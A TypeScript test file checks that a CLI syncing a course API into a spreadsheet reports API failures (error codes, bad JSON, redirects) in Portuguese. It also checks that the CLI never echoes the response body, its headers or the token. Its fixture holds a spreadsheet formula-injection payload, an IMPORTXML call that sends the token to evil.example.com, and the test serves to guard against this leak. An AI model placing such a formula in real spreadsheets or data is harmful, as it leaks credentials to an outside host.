// Issue 11, classes 5, 12 and the redirect: whatever the API answers, the coordinator reads pt-BR,
// without a word of the answer's body, its headers or the token.

import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { HttpResponse } from '../../src/core/http';
import { main } from '../../src/node/cli';
import type { CliIo } from '../../src/node/cli-io';
import { createSchool } from '../../src/simulator';
import { startSimulatorServer } from '../../src/simulator/server';

const TOKEN = 'simulador-token';
const ENGLISH = /\b(the|rejected|check|retry|retried|failed|failure|answered|unexpected|could not|not found|please|error:|request|server|reached|redirect)\b/i;
const BODY = `=IMPORTXML("https://evil.example.com/?t=${TOKEN}") Invalid token ${TOKEN}`;

async function cli(args: string[], env: Record<string, string> = {}): Promise<{ code: number; stdout: string; stderr: string }> {
  let stdout = '';
  let stderr = '';
  const io: CliIo = { stdout: { write: (text: string) => (stdout += text) }, stderr: { write: (text: string) => (stderr += text) }, env, cwd: process.cwd() };
  const code = await main(args, io);
  return { code, stdout, stderr };
}

const json = (status: number, headers: Record<string, string> = {}): HttpResponse => ({
  status, headers: { 'content-type': 'application/json', ...headers }, body: JSON.stringify({ success: false, code: status, msg: BODY }),
});

const answers: [string, HttpResponse][] = [
  ['405 (token refused)', json(405)],
  ['404 without envelope', { status: 404, headers: { 'content-type': 'text/html', server: `nginx ${TOKEN}` }, body: `<h1>404 Not Found</h1>${BODY}` }],
  ['429 (rate limited)', json(429, { 'retry-after': '0' })],
  ['500', { status: 500, headers: { 'x-debug': BODY }, body: `<h1>Internal Server Error</h1>${BODY}` }],
  ['garbage JSON', { status: 200, headers: { 'content-type': 'application/json' }, body: `{"success":true,"data":{${BODY}` }],
  ['redirect', { status: 302, headers: { location: `https://login.example.com/sso?next=/api&t=${TOKEN}` }, body: BODY }],
];

describe('the CLI over a misbehaving API speaks Portuguese', () => {
  let dir: string;
  const cohort = createSchool({ studentCount: 6 }).cohorts[0];
  beforeEach(() => {
    dir = mkdtempSync(join(tmpdir(), 'cademi-ptbr-'));
  });
  afterEach(() => rmSync(dir, { recursive: true, force: true }));

  it.each(answers)('%s', async (_name, answer) => {
    const server = await startSimulatorServer({ port: 0, studentCount: 6, fault: () => answer });
    try {
      const file = join(dir, 'escola.xlsx');
      expect((await cli(['init', file])).code).toBe(0);
      expect((await cli(['cohort', 'add', file, '--name', cohort.name, '--tag', String(cohort.tagId), '--start', cohort.start, '--products', cohort.productIds.join(',')])).code).toBe(0);
      const run = await cli(['sync', file], { CADEMI_BASE_URL: server.url, CADEMI_TOKEN: TOKEN });
      expect(run.code).toBe(1);
      const said = run.stderr;
      expect(said.trim()).not.toBe('');
      expect(said).not.toMatch(ENGLISH);
      expect(said).not.toContain(TOKEN);
      expect(said).not.toMatch(/IMPORTXML|evil\.example|Invalid token|Internal Server Error|nginx|\/sso|next=/);
      if (answer.status === 302) {
        expect(said).toMatch(/CADEMI_BASE_URL|URL da API/);
        expect(said).toContain('https://login.example.com');
        expect(said).toMatch(/redirecionamento/);
      }
    } finally {
      await server.close();
    }
  }, 120_000);
});
